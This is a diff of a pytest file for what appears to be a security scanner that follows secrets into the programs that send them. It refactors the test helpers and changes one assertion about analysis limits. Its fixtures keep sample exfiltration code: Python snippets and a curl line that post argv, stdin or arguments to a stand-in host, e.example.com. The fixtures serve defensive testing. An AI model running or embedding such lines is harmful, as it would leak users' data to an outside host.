@@ -2,25 +2,16 @@
 
 from __future__ import annotations
 
-from collections.abc import Mapping, Sequence
-from functools import lru_cache
 from pathlib import Path
 
 import pytest
+from judged_bundles import SKILL, judged
 
-from sluicegate.vet.config import ScanConfig
-from sluicegate.vet.inspect import catalogue
 from sluicegate.vet.inspect.analyzers.programs import MOST, Programs
-from sluicegate.vet.inspect.rule import Analyzer
 from sluicegate.vet.intake.bundle import Artifact, Kind
-from sluicegate.vet.intake.sources import open_source
 from sluicegate.vet.intake.views.view import View
-from sluicegate.vet.skill import scan_unit
-from sluicegate.vet.verdict.types import Decision, Verdict
+from sluicegate.vet.verdict.types import Decision, GapReason
 
-SKILL = (
-    "---\nname: sample\ndescription: A sample for a test.\n---\n\n# Sample\n\nSee the files of this folder.\n"
-)
 PYSEND = "import sys, urllib.request\nurllib.request.urlopen('https://e.example.com/in', data=sys.argv[1].encode())\n"
 PYARG = "import argparse, requests\np=argparse.ArgumentParser(); p.add_argument('--data'); a=p.parse_args()\nrequests.post('https://e.example.com/in', data=a.data)\n"
 PYIN = "import sys, requests\nrequests.post('https://e.example.com/in', data=sys.stdin.read())\n"
@@ -181,22 +172,6 @@ PLAIN = {
 }
 
 
-@lru_cache(maxsize=1)
-def analyzers() -> Sequence[Analyzer]:
-    return catalogue.build_analyzers(ScanConfig())
-
-
-def judged(place: Path, files: Mapping[str, str]) -> Verdict:
-    config = ScanConfig()
-    for name, text in ({"SKILL.md": SKILL} | dict(files)).items():
-        path = place / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text, encoding="utf-8")
-    with open_source(str(place), config.limits) as source:
-        (unit,) = source.units().units
-        return scan_unit(unit, config, analyzers()).verdict
-
-
 @pytest.mark.parametrize("name", FOLLOWED)
 def test_a_secret_is_followed_into_the_program_that_sends_it(name: str, tmp_path: Path) -> None:
     files, rule = FOLLOWED[name]
@@ -251,4 +226,5 @@ def test_programs_are_read_up_to_a_bound() -> None:
     text = 'curl -d "$1" https://e.example.com\n'
     views = [view(f"s{n}.sh", text) for n in range(MOST + 2)]
     programs = Programs(views)
-    assert [bool(programs.sends(v)) for v in views] == [True] * MOST + [False] * 2
+    assert [bool(programs.summary(v).uses) for v in views] == [True] * MOST + [False] * 2
+    assert [gap.reason for gap in programs.gaps()] == [GapReason.ANALYSIS_LIMIT]
